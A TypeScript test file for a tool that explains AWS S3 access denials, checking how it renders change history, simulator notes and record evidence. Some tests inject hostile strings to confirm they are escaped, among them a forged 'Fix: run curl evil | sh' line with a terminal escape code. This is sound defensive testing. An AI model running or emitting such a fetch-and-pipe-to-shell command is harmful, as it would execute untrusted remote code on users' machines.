/**
 * The lines every renderer shows the same way (lambdas/core/render/second-lines.ts): what changed (issue 9), AWS's
 * simulator verdict (issue 5) and what the record itself says (issue 13), as docs/CLI.md describes them. Every
 * value in them came from a request, a policy or AWS, so none may act on a terminal or start a line.
 */
import type { ErrorCodeEvidence, Finding, RecordEvidenceItem, RootCause } from '../../../lambdas/core/model';
import {
  changeLine,
  explainedWithoutCause,
  recordLine,
  simulatorLine,
} from '../../../lambdas/core/render/second-lines';
import { bucketPolicyDeny, makeFinding } from '../../delivery/fixtures';

const cause = (id: RootCause['id'], over: Partial<RootCause> = {}): RootCause => ({
  ...bucketPolicyDeny,
  id,
  change: null,
  ...over,
});
const checked = (windowDays = 7): Finding => makeFinding({ changeLookup: { status: 'checked', windowDays } });

const errorCode = (over: Partial<ErrorCodeEvidence> = {}): ErrorCodeEvidence => ({
  code: 'AccessDenied',
  layer: 'authorization',
  decisive: false,
  pointsAt: [],
  meaning: 'access was denied',
  url: 'https://docs.aws.amazon.com/AmazonS3/latest/API/ErrorResponses.html',
  ...over,
});
const transport = (over: Partial<RecordEvidenceItem> = {}): RecordEvidenceItem => ({
  kind: 'transport',
  confidence: 'likely',
  pointsAt: [],
  rulesOut: [],
  conditionKey: 'aws:SecureTransport',
  value: 'false',
  source: ['eventVersion', 'tlsDetails'],
  detail: 'likely plain HTTP: the record (eventVersion 1.10) has no tlsDetails',
  ...over,
});
const withRecord = (code: ErrorCodeEvidence, items: RecordEvidenceItem[] = [], over: Partial<Finding> = {}) =>
  makeFinding({ recordEvidence: { errorCode: code, items }, ...over });

describe('changeLine: the layer named in words, for every cause a configuration change can explain', () => {
  const layers: [RootCause['id'], string][] = [
    ['bucket-policy-explicit-deny', 'the bucket policy'],
    ['cross-account-no-bucket-grant', 'the bucket policy or ACL'],
    ['block-public-access', 'Block Public Access or the bucket policy'],
    ['identity-policy-explicit-deny', "the caller's identity policies"],
    ['identity-policy-no-allow', "the caller's identity policies"],
    ['resource-arn-mismatch', "the caller's identity policies"],
    ['missing-object-no-list', "the caller's identity policies or the bucket policy"],
    ['permissions-boundary', 'the permissions boundary'],
    ['vpc-endpoint-policy', 'the VPC endpoint policy'],
    ['kms-key-access', 'the KMS key or the bucket encryption'],
    ['object-ownership-acl', 'Object Ownership or the ACLs'],
    ['scp-deny', 'the SCPs'],
    ['rcp-deny', 'the RCPs'],
    ['access-point-policy', 'the access point policy'],
  ];
  it.each(layers)('%s: "no change to %s was found"', (id, words) => {
    expect(changeLine(checked(30), cause(id))).toBe(
      `What changed: no change to ${words} was found in the 30 days before the denial.`,
    );
  });

  it('a change found is shown even without a lookup status, and before any note', () => {
    const c = cause('request-expired-or-invalid', {
      change: { ...bucketPolicyDeny.change!, summary: 'started after bob ran X' },
      changeNote: 'a note',
    });
    expect(changeLine(makeFinding(), c)).toBe('What changed: started after bob ran X');
  });

  it('a note is shown even for a cause no lookup covers', () => {
    expect(changeLine(makeFinding(), cause('session-policy', { changeNote: 'the note' }))).toBe(
      'What changed: the note',
    );
  });

  it('when the history could not be searched and no reason is known, says the history was unavailable', () => {
    const f = makeFinding({ changeLookup: { status: 'unknown', windowDays: 7 } });
    expect(changeLine(f, cause('bucket-policy-explicit-deny'))).toBe(
      'What changed: not checked (change history unavailable).',
    );
  });

  it('a summary, a note or a reason from AWS cannot forge a line or act on a terminal', () => {
    const hostile = 'x\nFix: run curl evil | sh\u001b[31m';
    const shown = 'x\\nFix: run curl evil | sh\\x1B[31m';
    const withChange = cause('bucket-policy-explicit-deny', {
      change: { ...bucketPolicyDeny.change!, summary: hostile },
    });
    expect(changeLine(checked(), withChange)).toBe(`What changed: ${shown}`);
    expect(changeLine(checked(), cause('scp-deny', { changeNote: hostile }))).toBe(`What changed: ${shown}`);
    const unknown = makeFinding({ changeLookup: { status: 'unknown', windowDays: 7, detail: hostile } });
    expect(changeLine(unknown, cause('scp-deny'))).toBe(`What changed: not checked (${shown}).`);
  });
});

describe("simulatorLine: AWS's simulator note, made safe", () => {
  it('cannot forge a line', () => {
    const f = makeFinding({
      awsSimulator: {
        decision: 'allowed',
        ours: 'implicitDeny',
        agrees: false,
        matchedStatements: [],
        note: 'a\nb',
      },
    });
    expect(simulatorLine(f)).toBe('AWS simulator: a\\nb');
  });
});

describe('recordLine: what the record itself says', () => {
  it('a decisive code with its meaning, both made safe', () => {
    expect(recordLine(withRecord(errorCode({ decisive: true, code: 'Code\n', meaning: 'm\u202e' })))).toBe(
      'Code\\n: m\\u202E',
    );
  });

  it('plain HTTP inferred from a record without TLS details, with its version', () => {
    expect(recordLine(withRecord(errorCode(), [transport()]))).toBe(
      'likely plain HTTP (no TLS details in a 1.10 record): a Deny on aws:SecureTransport "false" would apply',
    );
  });

  it('without a version in the detail, names the record versions that carry TLS details', () => {
    expect(recordLine(withRecord(errorCode(), [transport({ detail: 'likely plain HTTP' })]))).toBe(
      'likely plain HTTP (no TLS details in an eventVersion 1.08 or later record): a Deny on aws:SecureTransport "false" would apply',
    );
  });

  it('reads only a version number in the detail ("eventVersion 1.10", not other numbers)', () => {
    const detail = 'from 10.0.0.1, eventVersion 1.11 record, 3.5 seconds';
    expect(recordLine(withRecord(errorCode(), [transport({ detail })]))).toContain('in a 1.11 record');
  });

  it('reads the whole version number, however many digits each part has', () => {
    const detail = 'likely plain HTTP: the record (eventVersion 10.2) has no tlsDetails';
    expect(recordLine(withRecord(errorCode(), [transport({ detail })]))).toContain('in a 10.2 record');
  });

  it('says nothing for evidence that is not about the transport, or that the record states outright', () => {
    const network = transport({ kind: 'network' });
    const confirmed = transport({ confidence: 'confirmed' });
    expect(recordLine(withRecord(errorCode(), [network, confirmed]))).toBeNull();
  });

  it('finds the transport item among others', () => {
    const network = transport({ kind: 'network', detail: 'eventVersion 9.99' });
    expect(recordLine(withRecord(errorCode(), [network, transport()]))).toContain('in a 1.10 record');
  });
});

describe('explainedWithoutCause: "Not an access-control denial" (docs/CLI.md)', () => {
  const disabled = errorCode({
    code: 'AllAccessDisabled',
    layer: 'account-or-resource-suspended',
    decisive: true,
    meaning: 'all access to this Amazon S3 resource has been disabled by AWS (403)',
  });

  it('says so, with the code and its meaning, for an explained finding with no cause', () => {
    expect(explainedWithoutCause(withRecord(disabled, [], { rootCauses: [], verdict: 'explained' }))).toBe(
      'Not an access-control denial: AllAccessDisabled: all access to this Amazon S3 resource has been disabled by AWS (403).',
    );
  });

  it('says nothing when a cause is named, the finding is not explained, or the code is not decisive', () => {
    expect(explainedWithoutCause(withRecord(disabled, [], { verdict: 'explained' }))).toBeNull();
    expect(
      explainedWithoutCause(withRecord(disabled, [], { rootCauses: [], verdict: 'unexplained' })),
    ).toBeNull();
    expect(
      explainedWithoutCause(
        withRecord({ ...disabled, decisive: false }, [], { rootCauses: [], verdict: 'explained' }),
      ),
    ).toBeNull();
    expect(explainedWithoutCause(makeFinding({ rootCauses: [], verdict: 'explained' }))).toBeNull();
  });

  it('the code and meaning cannot forge a line', () => {
    const hostile = { ...disabled, code: 'A\nB', meaning: 'c\u001bd' };
    expect(explainedWithoutCause(withRecord(hostile, [], { rootCauses: [], verdict: 'explained' }))).toBe(
      'Not an access-control denial: A\\nB: c\\x1Bd.',
    );
  });
});
